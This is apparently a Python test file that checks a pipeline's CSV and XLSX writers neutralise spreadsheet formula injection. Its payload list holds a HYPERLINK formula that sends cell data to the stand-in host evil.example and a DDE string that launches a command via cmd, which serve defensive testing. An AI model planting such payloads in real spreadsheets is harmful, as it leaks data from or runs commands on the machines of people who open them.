"""Text from a document never runs as a formula in a spreadsheet we write."""

import io

import pytest
from openpyxl import Workbook, load_workbook

from pipeline.cells import csv_safe, defuse_book

PAYLOADS = [
    ('=HYPERLINK("http://evil.example/?x="&A1,"点此查看")', "equals"),
    ("+1+cmd|' /C calc'!A0", "plus"),
    ("-2+3", "minus"),
    ("@SUM(A1:A3)", "at"),
    ("\t=1+1", "tab"),
    ("\r=1+1", "carriage return"),
]


@pytest.mark.parametrize("text", [p for p, _ in PAYLOADS], ids=[i for _, i in PAYLOADS])
def test_csv_cell_is_shown_not_run(text):
    assert csv_safe(text) == "'" + text


@pytest.mark.parametrize("value", ["新建社区食堂12个", "市民政局", 3600, -2.5, None, ""],
                         ids=["name", "unit", "int", "negative number", "none", "empty"])
def test_ordinary_values_pass_unchanged(value):
    assert csv_safe(value) == value


@pytest.mark.parametrize("text", [p for p, _ in PAYLOADS], ids=[i for _, i in PAYLOADS])
def test_xlsx_cell_reads_back_as_text(text):
    wb = Workbook()
    wb.active.append(["项目", text, 12])
    defuse_book(wb)
    buf = io.BytesIO()
    wb.save(buf)
    buf.seek(0)
    cell = load_workbook(buf).active["B1"]
    assert cell.data_type == "s"
    assert cell.value == text
    assert load_workbook(buf).active["C1"].value == 12
